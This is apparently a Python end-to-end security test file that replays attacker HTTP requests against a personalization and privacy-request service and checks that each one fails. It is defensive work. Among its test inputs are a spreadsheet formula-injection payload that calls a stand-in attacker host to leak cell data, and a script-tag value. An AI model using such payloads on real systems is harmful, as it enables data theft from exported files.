"""Issue 17's attacks, each as the HTTP sequence an attacker would send to the local runtime.
Every one must fail; the legitimate flow beside it must still work."""

from __future__ import annotations

import json
import statistics
import time
from datetime import UTC, datetime

import pytest

from shared.trust import new_visitor_id
from tests.e2e.conftest import eventually
from tests.security.conftest import ANNA, admin, api, as_text, backend, bundle, consented, outbox_link, signed_in, token_of

pytestmark = [pytest.mark.e2e, pytest.mark.security]
ATTACKER = "mallory@example.net"


def event(type_: str, **fields) -> dict:
    return {"type": type_, "timestamp": datetime.now(UTC).isoformat(), **fields}


def linked_ids(runtime, customer_id: str) -> list[str]:
    return admin(runtime, "GET", f"/v1/profiles/{customer_id}")[1].get("linked_ids", [])


# ---------------------------------------------------------------- identity: no link without proof
def test_an_identify_without_the_customers_session_links_nothing(runtime, customers):
    visitor = new_visitor_id()
    for headers in ({}, signed_in(runtime, "C-1002")):  # no session; another customer's session
        status, answer = api(runtime, "POST", "/v1/events", {"events": [event("identify", anonymous_id=visitor, customer_id="C-1001")]},
                             headers)
        assert status == 202 and answer["accepted"] == 0, answer
        assert "X-Persona-Session" in answer["rejected"][0]["errors"][0]
    # Any other event naming both ids was a link before: now it is refused the same way.
    status, answer = api(runtime, "POST", "/v1/events", {"events": [event("page_view", anonymous_id=visitor, customer_id="C-1001")]})
    assert answer["accepted"] == 0
    time.sleep(2)  # what was accepted would have been consumed by now
    assert visitor not in linked_ids(runtime, "C-1001")


def test_the_customers_own_sign_in_links_their_visitor_id(runtime, customers):
    visitor = new_visitor_id()
    status, answer = api(runtime, "POST", "/v1/events", {"events": [event("identify", anonymous_id=visitor, customer_id="C-1002")]},
                         signed_in(runtime, "C-1002"))
    assert (status, answer["accepted"]) == (202, 1), answer
    eventually(lambda: visitor in linked_ids(runtime, "C-1002"), 30)


@pytest.mark.parametrize("kind", ["access", "erasure", "rectification"])
def test_a_strangers_visitor_request_never_reaches_a_customer(runtime, customers, kind):
    """File a request about one's own fresh visitor id, try to link it to the customer, confirm it from one's
    own inbox: the request covers the visitor id alone, and the customer is untouched (with rectification, the
    customer's address on file would have become the attacker's: every later link would go to them)."""
    visitor = new_visitor_id()
    extra = {"corrections": {"email": ATTACKER}} if kind == "rectification" else {}
    status, created = api(runtime, "POST", "/v1/privacy-requests", {"type": kind, "subject_id": visitor, "contact": ATTACKER, **extra})
    assert status == 202, created
    api(runtime, "POST", "/v1/events", {"events": [event("identify", anonymous_id=visitor, customer_id="C-1001"),
                                                   event("search", anonymous_id=visitor, query="tent")]})
    link = eventually(lambda: outbox_link(runtime, created["request_id"]), 10)  # a visitor's link goes to the typed address
    token = token_of(link)
    assert api(runtime, "POST", f"/v1/privacy-requests/{created['request_id']}/verification", {"token": token})[0] == 200
    if kind == "access":
        files = bundle(runtime, created["request_id"], token)
        assert not {s for s in ANNA if s in as_text(files)}, "the bundle holds the customer's data"
    else:
        eventually(lambda: api(runtime, "GET", f"/v1/privacy-requests/{created['request_id']}")[1]["status"] == "completed", 60)
    profile = admin(runtime, "GET", "/v1/profiles/C-1001")
    assert profile[0] == 200 and profile[1]["attributes"]["email"]["value"] == "anna.schmidt@example.org"


def test_a_request_about_a_customer_from_a_strangers_address_sends_no_link(runtime, customers):
    for subject in ("C-1001", "C-1003"):  # known, and not (yet) known: the same answer, no link either way
        status, created = api(runtime, "POST", "/v1/privacy-requests", {"type": "erasure", "subject_id": subject, "contact": ATTACKER})
        assert status == 202
        time.sleep(0.5)
        assert outbox_link(runtime, created["request_id"]) is None


def test_erasing_a_lower_case_lookalike_id_does_not_suppress_the_customer(runtime, customers):
    """`c-1001` is not a visitor secret, so it is a customer's id: a stranger's request waits for staff and no link goes
    out; and even an erasure of it would hash `c-1001`, not `C-1001` (unit test of shared/pseudonyms)."""
    status, created = api(runtime, "POST", "/v1/privacy-requests", {"type": "erasure", "subject_id": "c-1001", "contact": ATTACKER})
    assert status == 202 and outbox_link(runtime, created["request_id"]) is None
    queue = admin(runtime, "GET", "/v1/privacy-requests?status=pending_verification")[1]["requests"]
    assert next(r for r in queue if r["request_id"] == created["request_id"])["verification"] == "no_contact_on_file"


# ---------------------------------------------------------------- answers about someone else
def test_recommendations_for_a_customer_id_without_their_session_are_a_visitors(runtime, customers):
    api(runtime, "POST", "/v1/server/events", {"events": [event("product_view", customer_id="C-1001", item_id="sku-8001")]},
        backend(runtime))
    visitor = new_visitor_id()
    answers = [api(runtime, "GET", f"/v1/recommendations?placement=home&n=5&anonymous_id={visitor}&user_id={who}")
               for who in ("C-1001", "C-9999")]
    assert answers[0] == answers[1]  # known or not: the same answer, nothing of the customer in it
    assert answers[0][0] == 200 and answers[0][1]["personalized"] is False
    assert answers[0][1]["fallback_reason"] not in ("restricted", "objection")
    alone = [api(runtime, "GET", f"/v1/recommendations?placement=email&user_id={who}") for who in ("C-1001", "C-9999")]
    assert alone[0] == alone[1] and alone[0][1]["fallback_reason"] in ("unknown_visitor", "no_model")


def test_assignments_for_a_customer_id_without_their_session_say_nothing_and_record_nothing(runtime, customers):
    answers = [api(runtime, "POST", "/v1/assignments", {"user_id": who}) for who in ("C-1001", "C-9999")]
    assert answers[0] == answers[1] == (200, {"unit_id": None, "holdout": False, "excluded_reason": "unknown_visitor",
                                               "assignments": [], "skipped": []})
    items = runtime.client("dynamodb").query(TableName=runtime.endpoints.tables["experiments"], KeyConditionExpression="pk = :p",
                                             ExpressionAttributeValues={":p": {"S": "UNIT#C-1001"}})["Items"]
    assert not [i for i in items if i["sk"]["S"].startswith("ASSIGN#")]


def test_consents_answer_the_same_for_known_and_unknown_customer_ids(runtime, customers):
    def timed(subject: str) -> tuple[tuple[int, dict], float]:
        started = time.perf_counter()
        answer = api(runtime, "GET", f"/v1/consents/{subject}")
        return answer, time.perf_counter() - started

    known, unknown = [], []
    for _ in range(7):
        known.append(timed("C-1001"))
        unknown.append(timed("C-4242"))
    answers = {repr(a) for a, _ in known + unknown}
    assert len(answers) == 1, answers  # one status, one body
    assert known[0][0][0] == 401 and known[0][0][1]["error"]["code"] == "session_required"
    # The same timing class: both read the same items (within 3x and 100 ms of each other on a busy machine).
    k, u = statistics.median(t for _, t in known), statistics.median(t for _, t in unknown)
    assert k < 3 * u + 0.1 and u < 3 * k + 0.1, (k, u)


# ---------------------------------------------------------------- consent cannot be forged
def test_consent_given_as_a_visitor_reaches_a_customer_only_through_their_own_sign_in(runtime, customers):
    visitor = new_visitor_id()
    grant = {"purposes": {"analytics": True, "personalization": True, "email_marketing": True}, "source": "banner", "policy_version": "v1"}
    assert api(runtime, "PUT", f"/v1/consents/{visitor}", grant)[0] == 200
    api(runtime, "POST", "/v1/events", {"events": [event("identify", anonymous_id=visitor, customer_id="C-1001")]})
    time.sleep(2)
    status, consents = api(runtime, "GET", "/v1/consents/C-1001", headers=signed_in(runtime, "C-1001"))
    assert status == 200 and not consents["purposes"].get("email_marketing", {}).get("granted"), consents
    # The customer's own sign-in carries the banner choice over, and the history says from where.
    api(runtime, "POST", "/v1/events", {"events": [event("identify", anonymous_id=visitor, customer_id="C-1002")]},
        signed_in(runtime, "C-1002"))
    carried = eventually(lambda: api(runtime, "GET", "/v1/consents/C-1002", headers=signed_in(runtime, "C-1002"))[1]["history"], 30)
    assert {r["carried_from"] for r in carried} == {visitor} and {r["source"] for r in carried} == {"banner"}


def test_an_unsubscribe_for_a_customer_needs_their_session_or_the_mailed_link(runtime, customers):
    status, answer = api(runtime, "POST", "/v1/events", {"events": [event("unsubscribe", customer_id="C-1001")]})
    assert answer["accepted"] == 0 and "unsubscribe_token" in answer["rejected"][0]["errors"][0]
    forged = {"events": [event("unsubscribe", customer_id="C-1001", unsubscribe_token="1999999999." + "A" * 43)]}
    assert api(runtime, "POST", "/v1/events", forged)[1]["accepted"] == 0


# ---------------------------------------------------------------- attacker text stays data
def test_a_storefront_purchase_carries_no_revenue(runtime, customers):
    visitor = consented(runtime, new_visitor_id())
    status, answer = api(runtime, "POST", "/v1/events", {"events": [
        event("purchase", anonymous_id=visitor, value="9999999999.00", currency="EUR", item_id="sku-1")]})
    assert (status, answer["accepted"], answer["changed"][0]["index"]) == (202, 1, 0)
    counts = eventually(lambda: admin(runtime, "GET", f"/v1/profiles/{visitor}")[1].get("interactions"), 30)
    assert counts["by_type"] == {"page_view": 1}, counts


def test_a_formula_in_a_search_term_is_escaped_in_the_access_bundle(runtime, customers):
    visitor = consented(runtime, new_visitor_id())
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    api(runtime, "POST", "/v1/events", {"events": [event("search", anonymous_id=visitor, query=formula)]})
    eventually(lambda: admin(runtime, "GET", f"/v1/profiles/{visitor}")[0] == 200, 30)
    status, created = api(runtime, "POST", "/v1/privacy-requests", {"type": "access", "subject_id": visitor, "contact": "me@example.org"})
    token = token_of(eventually(lambda: outbox_link(runtime, created["request_id"]), 10))
    api(runtime, "POST", f"/v1/privacy-requests/{created['request_id']}/verification", {"token": token})
    files = bundle(runtime, created["request_id"], token)
    cells = [line for name, text in files.items() if name.endswith(".csv") for line in text.splitlines() if "HYPERLINK" in line]
    assert cells and all(",=HYPERLINK" not in line and not line.startswith("=") for line in cells), cells
    assert any("'=HYPERLINK" in line for line in cells)


# ---------------------------------------------------------------- no 500 at will
@pytest.mark.parametrize("junk", ["².x", "²." + "A" * 43, "1.x", ".", "9" * 40, "1." + "A" * 42 + "é"])
def test_a_malformed_session_or_token_is_a_4xx_never_a_500(runtime, customers, junk):
    visitor = new_visitor_id()
    session = {"X-Persona-Session": junk.encode().decode("latin-1")}  # as the raw bytes reach the gateway
    answers = [
        api(runtime, "GET", "/v1/consents/C-1001", headers=session),
        api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": True}, "source": "banner", "policy_version": "v1"}, session),
        api(runtime, "POST", "/v1/events", {"events": [event("page_view", anonymous_id=visitor)]}, session),
        api(runtime, "GET", f"/v1/recommendations?placement=home&anonymous_id={visitor}", headers=session),
        api(runtime, "POST", "/v1/assignments", {"anonymous_id": visitor}, session),
        api(runtime, "GET", f"/v1/privacy-requests/by-subject/{visitor}", headers=session),
    ]
    assert [s for s, _ in answers] == [401] * 6, answers
    assert {b["error"]["code"] for _, b in answers} == {"invalid_session"}
    created = api(runtime, "POST", "/v1/privacy-requests", {"type": "access", "subject_id": visitor, "contact": "me@example.org"})[1]
    from urllib.parse import quote

    assert api(runtime, "GET", f"/v1/privacy-requests/{created['request_id']}?token={quote(junk)}")[0] == 403
    assert api(runtime, "POST", f"/v1/privacy-requests/{created['request_id']}/verification", {"token": junk})[0] == 403


def test_guessable_visitor_ids_are_refused_everywhere(runtime, customers):
    for guessable in ("anon-1", "00004", "visitor"):
        assert api(runtime, "POST", "/v1/events", {"events": [event("page_view", anonymous_id=guessable)]})[1]["accepted"] == 0
        assert api(runtime, "GET", f"/v1/recommendations?placement=home&anonymous_id={guessable}")[0] == 400
        assert api(runtime, "POST", "/v1/assignments", {"anonymous_id": guessable})[0] == 400
        assert api(runtime, "GET", f"/v1/consents/{guessable}")[0] == 401


def test_server_routes_need_the_backends_credential(runtime, customers):
    body = {"events": [event("purchase", customer_id="C-1001", value="10.00", currency="EUR")]}
    email = "/v1/server/recommendations?placement=email&user_id=C-1001&n=3"
    wrong = ({}, {"x-persona-server-key": "wrong"}, {"x-persona-server-key": runtime.endpoints.server_key + " "},
             {"x-api-key": runtime.endpoints.admin_api_key}, signed_in(runtime, "C-1001"))
    for headers in wrong:
        status, answer = api(runtime, "POST", "/v1/server/events", body, headers)
        assert status == 403 and answer["error"]["code"] == "forbidden", (headers, answer)
        status, answer = api(runtime, "GET", email, headers=headers)
        assert status == 403 and answer["error"]["code"] == "forbidden", (headers, answer)
    status, answer = api(runtime, "POST", "/v1/server/events", body, backend(runtime))
    assert (status, answer["accepted"], answer["changed"]) == (202, 1, [])
    status, answer = api(runtime, "GET", email, headers=backend(runtime))  # the backend needs no customer session
    assert status == 200 and answer["placement"] == "email"


# ---------------------------------------------------------------- consent at the door
def test_browsing_of_a_visitor_without_consent_is_answered_but_not_stored(runtime, customers):
    visitor = new_visitor_id()
    status, answer = api(runtime, "POST", "/v1/events", {"events": [event("product_view", anonymous_id=visitor, item_id="sku-1")]})
    assert (status, answer["accepted"], answer["withheld"]) == (202, 1, 1), answer
    assert api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": True}, "source": "banner", "policy_version": "v1"})[0] == 200
    eventually(lambda: api(runtime, "POST", "/v1/events", {"events": [
        event("product_view", anonymous_id=visitor, item_id="sku-1")]})[1]["withheld"] == 0, 30)  # once the projection has it
    assert eventually(lambda: admin(runtime, "GET", f"/v1/profiles/{visitor}")[1].get("interactions"), 30)["total"] >= 1
    # Withdrawn: stored no more.
    assert api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": False}, "source": "banner", "policy_version": "v1"})[0] == 200
    eventually(lambda: api(runtime, "POST", "/v1/events", {"events": [
        event("search", anonymous_id=visitor, query="tent")]})[1]["withheld"] == 1, 30)


def test_a_category_or_brand_not_in_the_published_catalog_is_dropped(runtime, customers):
    visitor = new_visitor_id()
    status, answer = api(runtime, "POST", "/v1/events", {"events": [
        event("product_view", anonymous_id=visitor, item_id="sku-1", category="attacker-made-up-category", brand="Stride"),
        event("product_view", anonymous_id=visitor, item_id="sku-1", category="tents", brand="<script>")]})
    assert (status, answer["accepted"], [c["index"] for c in answer["changed"]]) == (202, 2, [0, 1]), answer
    assert "category 'attacker-made-up-category' is not in the published catalog" in answer["changed"][0]["errors"][0]


def test_thousands_of_made_up_search_terms_do_not_grow_a_profile(runtime, customers):
    visitor = consented(runtime, new_visitor_id())
    for start in range(0, 300, 100):
        api(runtime, "POST", "/v1/events", {"events": [event("search", anonymous_id=visitor, query=f"term {i} {visitor}")
                                                       for i in range(start, start + 100)]})
    counts = eventually(lambda: (c := admin(runtime, "GET", f"/v1/profiles/{visitor}")[1].get("interactions")) and c["total"] == 300 and c, 60)
    item = runtime.client("dynamodb").get_item(TableName=runtime.endpoints.tables["profiles"],
                                               Key={"pk": {"S": f"VISITOR#{visitor}"}, "sk": {"S": "COUNTS"}})["Item"]
    assert counts["by_type"] == {"search": 300}
    assert len(item["searched"]["SS"]) == 20  # the first 20 distinct terms, as values
    assert not [name for name in item if "term" in name]  # never as attribute names


def test_a_sensitive_category_never_becomes_a_segment(runtime, customers):
    consented(runtime, "C-1002", signed_in(runtime, "C-1002"))
    api(runtime, "POST", "/v1/server/events", {"events": [
        event("product_view", customer_id="C-1002", item_id="sku-2", category="health", event_id=f"health-view-{i:04d}")
        for i in range(30)]}, backend(runtime))
    eventually(lambda: admin(runtime, "GET", "/v1/profiles/C-1002")[1]["interactions"]["by_type"].get("product_view", 0) >= 30, 30)
    api(runtime, "POST", "/v1/server/events", {"events": [
        event("product_view", customer_id="C-1002", item_id="sku-1", category="tents", event_id="tents-view-0001")]}, backend(runtime))
    segments = eventually(lambda: [s for s in admin(runtime, "GET", "/v1/profiles/C-1002")[1]["segments"] if "tents" in s], 30)
    assert "affinity:category:tents" in segments
    assert not [s for s in admin(runtime, "GET", "/v1/profiles/C-1002")[1]["segments"] if "health" in s]


def test_a_persons_own_requests_need_the_same_proof_as_their_consents(runtime, customers):
    visitor = new_visitor_id()
    created = api(runtime, "POST", "/v1/privacy-requests", {"type": "access", "subject_id": visitor, "contact": "me@example.org"})[1]
    status, mine = api(runtime, "GET", f"/v1/privacy-requests/by-subject/{visitor}")
    assert status == 200 and [r["request_id"] for r in mine["requests"]] == [created["request_id"]]
    assert "contact" not in mine["requests"][0] and "token" not in json.dumps(mine)
    strangers = [api(runtime, "GET", f"/v1/privacy-requests/by-subject/{who}") for who in ("C-1001", "C-4242")]
    assert strangers[0] == strangers[1] and strangers[0][0] == 401
    status, own = api(runtime, "GET", "/v1/privacy-requests/by-subject/C-1001", headers=signed_in(runtime, "C-1001"))
    assert status == 200 and own["subject_id"] == "C-1001"  # including what strangers filed for them, held for staff


def test_the_local_sign_in_refuses_a_body_nested_too_deep_with_a_400(runtime, customers):
    status, answer = api(runtime, "POST", "/local/storefront-sessions", b"[" * 100_000 + b"]" * 100_000)
    assert status == 400 and answer["error"]["code"] == "invalid_request"


def test_a_refusal_that_closes_the_connection_says_so(runtime, customers):
    import http.client
    from urllib.parse import urlsplit

    where = urlsplit(runtime.endpoints.api_url)
    connection = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
    try:
        connection.putrequest("POST", "/v1/events")
        connection.putheader("content-length", str(11 * 1024 * 1024))
        connection.endheaders()
        response = connection.getresponse()
        assert response.status == 413 and response.getheader("connection") == "close"
    finally:
        connection.close()


def test_the_one_click_unsubscribe_link_of_an_email_works_and_only_for_its_customer(runtime, customers):
    """RFC 8058: the mail client posts `List-Unsubscribe=One-Click` to the URL of the List-Unsubscribe header."""
    import urllib.request
    from urllib.error import HTTPError

    from shared import sessions

    key = runtime.client("secretsmanager").get_secret_value(SecretId=runtime.resources.names[("secret", "session_keys")])["SecretString"]
    mailed = sessions.issue_unsubscribe(key, "C-1001", datetime.now(UTC))

    def post(customer_id: str, token: str, body: bytes = b"List-Unsubscribe=One-Click") -> int:
        request = urllib.request.Request(f"{runtime.endpoints.api_url}/v1/unsubscribe?customer_id={customer_id}&token={token}",
                                         data=body, method="POST", headers={"content-type": "application/x-www-form-urlencoded"})
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                return response.status
        except HTTPError as exc:
            return exc.code

    assert post("C-1002", mailed) == 403 and post("C-4242", mailed) == 403  # another customer's, known or not: the same
    assert post("C-1001", "1999999999." + "A" * 43) == 403
    assert post("C-1001", mailed, b"") == 400  # a GET-like visit (a link scanner) unsubscribes nobody
    assert post("C-1001", mailed) == 200
    history = eventually(lambda: [r for r in api(runtime, "GET", "/v1/consents/C-1001", headers=signed_in(runtime, "C-1001"))[1]["history"]
                                  if r["source"] == "email_unsubscribe"], 30)
    assert history[0]["purpose"] == "email_marketing" and history[0]["granted"] is False
